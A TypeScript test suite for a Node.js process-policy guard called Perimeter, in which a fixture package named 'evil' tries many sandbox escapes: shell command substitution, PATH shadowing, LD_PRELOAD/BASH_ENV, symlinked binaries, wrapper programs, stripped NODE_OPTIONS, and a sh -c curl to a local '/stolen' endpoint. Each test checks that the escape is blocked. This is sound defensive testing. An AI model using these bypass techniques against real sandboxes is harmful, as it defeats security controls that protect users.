// Hostile packages that know Perimeter is there try to start a program the policy denies. Each test: the fixture
// package `evil` really attempts the escape inside a guarded process, the test asserts the forbidden effect did
// not happen (the marker file `touch` would create does not exist, the loopback server saw nothing), and the
// allowed program next to it (echo) still runs.
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { type GuardedRun, NODE, runGuarded, startRecordingServer, tempDir } from '../helpers.js';

// Writes under /tmp are allowed so that the hostile package can plant scripts and links there, as it could on a
// function whose policy allows /tmp.
const POLICY = {
  mode: 'block',
  process: { allow: ['echo', NODE] },
  env: { allow: ['SHARED_FLAG'] },
  fs: { write: ['/tmp/**'] },
};

interface Scene {
  run: GuardedRun;
  marker: string;
  out: Record<string, unknown>;
}

/**
 * Runs `body` (the statements of an async function(ctx) in node_modules/evil, CommonJS) and a legitimate
 * `echo legit` from the app next to it. `ctx.marker` is the file the denied program would create.
 */
async function attack(
  body: string,
  options: {
    esm?: string;
    policy?: unknown;
    env?: Record<string, string>;
    args?: string[];
    prepare?: (dir: string) => void;
  } = {},
): Promise<Scene> {
  const dir = realpathSync(tempDir('perimeter-bypass-process-'));
  const marker = join(dir, 'marker');
  options.prepare?.(dir);
  const files: Record<string, string> = {
    'node_modules/evil/package.json': '{"name":"evil","version":"1.0.0","main":"index.js"}',
    'node_modules/evil/index.js': `module.exports = async function attack(ctx) {\n${body}\n};`,
    'main.js': `
      const { execFileSync } = require('node:child_process');
      const attack = require('evil');
      const ctx = { marker: ${JSON.stringify(marker)}, dir: ${JSON.stringify(dir)}, node: ${JSON.stringify(NODE)}, args: process.argv.slice(2) };
      (async () => {
        const out = {};
        try { out.attack = await attack(ctx); } catch (e) { out.attack = { threw: e.code || String(e) }; }
        out.legit = execFileSync('echo', ['legit']).toString().trim();
        console.log(JSON.stringify(out));
      })();`,
  };
  if (options.esm) files['node_modules/evil/esm.mjs'] = options.esm;
  const run = await runGuarded({
    dir,
    files,
    script: 'main.js',
    policy: options.policy ?? POLICY,
    env: options.env,
    args: options.args,
  });
  const line = run.stdout.trim().split('\n').pop() ?? '';
  let out: Record<string, unknown> = {};
  try {
    out = JSON.parse(line);
  } catch {
    assert.fail(`no result line; code ${run.code}\nstdout: ${run.stdout}\nstderr: ${run.stderr}`);
  }
  return { run, marker, out };
}

/** `culprit`: who the blocked event names — `evil`, or `app` when the guard of a node child blocked it there. */
function assertStopped(scene: Scene, culprit = 'evil'): void {
  assert.equal(existsSync(scene.marker), false, 'the denied program must not have run');
  assert.equal(scene.out.legit, 'legit', 'the allowed program next to it still runs');
  assert.ok(
    scene.run.events.some((e) => e.capability === 'process' && e.action === 'blocked' && e.package === culprit),
    `a blocked process event names ${culprit}: ${JSON.stringify(scene.run.events)}`,
  );
}

/** Waits for a child's 'close' and reports the error it emitted, if any. */
const WAIT = `
  const wait = (child) => new Promise((done) => {
    let error = null;
    child.on('error', (e) => { error = e.code || String(e); });
    child.on('close', () => done(error));
  });`;

describe('bypass: child processes', () => {
  test('bypass: an execSync reference saved after the guard loaded is still the wrapper', async () => {
    const scene = await attack(`
      const saved = require('child_process').execSync;
      const again = require('node:child_process').execSync;
      try { saved('touch ' + ctx.marker); } catch (e) { return { code: e.code, same: saved === again }; }
      return 'ran';`);
    assertStopped(scene);
    assert.deepEqual(scene.out.attack, { code: 'ERR_PERIMETER_BLOCKED', same: true });
  });

  test('bypass: util.promisify(exec) goes through exec[util.promisify.custom]', async () => {
    const scene = await attack(`
      const run = require('util').promisify(require('child_process').exec);
      try { await run('touch ' + ctx.marker); return 'ran'; } catch (e) { return e.code; }`);
    assertStopped(scene);
    assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED');
  });

  test('bypass: new ChildProcess().spawn() reached through Object.getPrototypeOf', async () => {
    const scene = await attack(`${WAIT}
      const cp = require('child_process');
      const child = cp.spawn('echo', ['warm-up']);
      await wait(child);
      const ChildProcess = Object.getPrototypeOf(child).constructor;
      const raw = new ChildProcess();
      const rawSpawn = Object.getPrototypeOf(raw).spawn;
      rawSpawn.call(raw, { file: '/usr/bin/touch', args: ['touch', ctx.marker], envPairs: ['PATH=/usr/bin:/bin'], stdio: 'ignore' });
      return await wait(raw);`);
    assertStopped(scene);
    assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED');
  });

  test('bypass: spawn with shell: true', async () => {
    const scene = await attack(`${WAIT}
      const child = require('child_process').spawn('echo ok; touch ' + ctx.marker, { shell: true });
      return await wait(child);`);
    assertStopped(scene);
    assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED');
  });

  test('bypass: sh -c "curl …" with curl denied (the shell is judged by what it runs)', async () => {
    const server = await startRecordingServer();
    try {
      const scene = await attack(
        `${WAIT}
        const child = require('child_process').spawn('/bin/sh', ['-c', 'echo fine && curl -s ' + ctx.args[0] + '/stolen']);
        return await wait(child);`,
        { args: [server.url] },
      );
      assertStopped(scene);
      assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED');
      assert.equal(server.requests.length, 0, 'curl never reached the server');
      assert.ok(scene.run.events.some((e) => e.capability === 'process' && /^\/usr\/bin\/curl /.test(e.target)));
    } finally {
      await server.close();
    }
  });

  test("bypass: a variable in command position (/bin/sh -c 'x=touch; $x …')", async () => {
    const scene = await attack(`
      try { require('child_process').execFileSync('/bin/sh', ['-c', 'x=touch; $x ' + ctx.marker]); return 'ran'; }
      catch (e) { return e.code; }`);
    assertStopped(scene);
    assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED');
  });

  test('bypass: sh -c "env -u NODE_OPTIONS node -e …" to start an unguarded node', async () => {
    const scene = await attack(`
      const code = 'require(String.fromCharCode(102, 115)).writeFileSync(process.argv[1], String(1))';
      try {
        require('child_process').execSync('env -u NODE_OPTIONS ' + ctx.node + ' -e "' + code + '" ' + ctx.marker);
        return 'ran';
      } catch (e) { return e.code; }`);
    assertStopped(scene);
    assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED');
  });

  test('bypass: a symlink in a temp folder pointing at a denied program', async () => {
    // Planted beforehand (a tarball can ship one); the fs guard may well refuse to let code create it at run time.
    const scene = await attack(
      `
      try { require('child_process').execFileSync(ctx.dir + '/innocent', [ctx.marker]); return 'ran'; }
      catch (e) { return e.code; }`,
      { prepare: (dir) => symlinkSync('/usr/bin/touch', join(dir, 'innocent')) },
    );
    assertStopped(scene);
    assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED');
    assert.ok(scene.run.events.some((e) => e.capability === 'process' && e.target.startsWith('/usr/bin/touch')));
  });

  test('bypass: PATH in options.env shadows an allowed name with another program', async () => {
    const scene = await attack(
      `
      try {
        require('child_process').execFileSync('echo', ['x'], { env: { PATH: ctx.dir + '/bin:/usr/bin:/bin' } });
        return 'ran';
      } catch (e) { return e.code; }`,
      {
        prepare: (dir) => {
          const bin = join(dir, 'bin');
          mkdirSync(bin);
          writeFileSync(join(bin, 'echo'), `#!/bin/sh\ntouch ${join(dir, 'marker')}\n`, { mode: 0o755 });
        },
      },
    );
    assertStopped(scene);
    assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED');
  });

  test('bypass: fork() a script that reads a secret and spawns — the guard is active in the child', async () => {
    const scene = await attack(
      `${WAIT}
      const fs = require('fs');
      const script = ctx.dir + '/child.js';
      fs.writeFileSync(script, \`
        const out = { secret: process.env.FORK_SECRET ?? null };
        try { require('child_process').execSync('touch \${ctx.marker}'); out.spawn = 'ran'; } catch (e) { out.spawn = e.code; }
        process.send(out);\`);
      const child = require('child_process').fork(script, [], { env: { ...process.env, FORK_SECRET: 'fork-secret-value' }, execArgv: [] });
      let message = null;
      child.on('message', (m) => { message = m; });
      await wait(child);
      return message;`,
      { env: { FORK_SECRET: 'platform-secret' } },
    );
    assertStopped(scene, 'app');
    // The child was given FORK_SECRET by code (so the parent could pass it) but the child's guard treats its own
    // environment as the platform's: a name outside env.allow reads as undefined there.
    assert.deepEqual(scene.out.attack, { secret: null, spawn: 'ERR_PERIMETER_BLOCKED' });
    assert.doesNotMatch(scene.run.stdout, /platform-secret|fork-secret-value/);
  });

  test("bypass: spawnSync(node, ['-e', …], { env: {} }) — the child still carries the guard", async () => {
    const scene = await attack(`
      const code = "try { require('child_process').execSync('touch ' + process.argv[1]); console.log('ran') } catch (e) { console.log(e.code) }";
      const r = require('child_process').spawnSync(ctx.node, ['-e', code, ctx.marker], { env: {} });
      return String(r.stdout).trim() + '|' + r.status;`);
    assertStopped(scene, 'app');
    assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED|0');
  });

  test('bypass: the caller names a permissive policy and its own NODE_OPTIONS for a node child', async () => {
    const scene = await attack(`
      const fs = require('fs');
      fs.writeFileSync(ctx.dir + '/open.json', JSON.stringify({ mode: 'allow' }));
      const code = "try { require('child_process').execSync('touch ' + process.argv[1]); console.log('ran') } catch (e) { console.log(e.code) }";
      const r = require('child_process').spawnSync(ctx.node, ['-e', code, ctx.marker], {
        env: { PERIMETER_POLICY: ctx.dir + '/open.json', NODE_OPTIONS: '--no-warnings' },
      });
      return String(r.stdout).trim();`);
    assertStopped(scene, 'app');
    assert.equal(scene.out.attack, 'ERR_PERIMETER_BLOCKED');
  });

  test('bypass: LD_PRELOAD / BASH_ENV handed to an allowed program', async () => {
    const scene = await attack(`
      const fs = require('fs');
      fs.writeFileSync(ctx.dir + '/rc.sh', 'touch ' + ctx.marker + '\\n');
      const results = [];
      for (const env of [{ BASH_ENV: ctx.dir + '/rc.sh' }, { LD_PRELOAD: ctx.dir + '/x.so' }]) {
        try { require('child_process').execFileSync('/bin/bash', ['-c', 'echo hi'], { env: { PATH: '/usr/bin:/bin', ...env } }); results.push('ran'); }
        catch (e) { results.push(e.code); }
      }
      return results;`);
    assertStopped(scene);
    assert.deepEqual(scene.out.attack, ['ERR_PERIMETER_BLOCKED', 'ERR_PERIMETER_BLOCKED']);
  });

  test('bypass: command substitution hidden in an argument of an allowed program', async () => {
    const scene = await attack(`
      const results = [];
      for (const cmd of ['echo $(touch ' + ctx.marker + ')', 'echo "\`touch ' + ctx.marker + '\`"', 'echo <(touch ' + ctx.marker + ')']) {
        try { require('child_process').execSync(cmd, { shell: '/bin/bash' }); results.push('ran'); } catch (e) { results.push(e.code); }
      }
      return results;`);
    assertStopped(scene);
    assert.deepEqual(scene.out.attack, ['ERR_PERIMETER_BLOCKED', 'ERR_PERIMETER_BLOCKED', 'ERR_PERIMETER_BLOCKED']);
  });

  test('bypass: wrappers that run another program (nice, timeout, xargs, find -exec, env sh -c)', async () => {
    const policy = {
      ...POLICY,
      process: { allow: ['echo', NODE, 'nice', 'timeout', 'xargs', 'find', 'env', 'nohup'] },
    };
    const scene = await attack(
      `
      const { execFileSync, execSync } = require('child_process');
      const m = ctx.marker;
      const attempts = [
        () => execFileSync('nice', ['-n', '1', 'touch', m]),
        () => execFileSync('timeout', ['5', 'touch', m]),
        () => execSync('echo ' + m + ' | xargs touch'),
        () => execFileSync('find', [ctx.dir, '-maxdepth', '0', '-exec', 'touch', m, ';']),
        () => execFileSync('env', ['sh', '-c', 'touch ' + m]),
        () => execFileSync('nohup', ['touch', m]),
      ];
      const results = [];
      for (const attempt of attempts) { try { attempt(); results.push('ran'); } catch (e) { results.push(e.code); } }
      results.push(String(execFileSync('nice', ['-n', '1', 'echo', 'wrapped-ok'])).trim());
      return results;`,
      { policy },
    );
    assertStopped(scene);
    assert.deepEqual(scene.out.attack, [...Array(6).fill('ERR_PERIMETER_BLOCKED'), 'wrapped-ok']);
  });

  test('bypass: an ESM named import of execSync / spawn', async () => {
    const scene = await attack(
      `
      const { run } = await import('./esm.mjs');
      return run(ctx.marker);`,
      {
        esm: `
        import { execSync, spawnSync } from 'node:child_process';
        import cp from 'child_process';
        export function run(marker) {
          const results = [];
          try { execSync('touch ' + marker); results.push('ran'); } catch (e) { results.push(e.code); }
          results.push(spawnSync('touch', [marker]).error?.code ?? 'ran');
          try { cp.execFileSync('touch', [marker]); results.push('ran'); } catch (e) { results.push(e.code); }
          return results;
        }`,
      },
    );
    assertStopped(scene);
    assert.deepEqual(scene.out.attack, ['ERR_PERIMETER_BLOCKED', 'ERR_PERIMETER_BLOCKED', 'ERR_PERIMETER_BLOCKED']);
  });
});
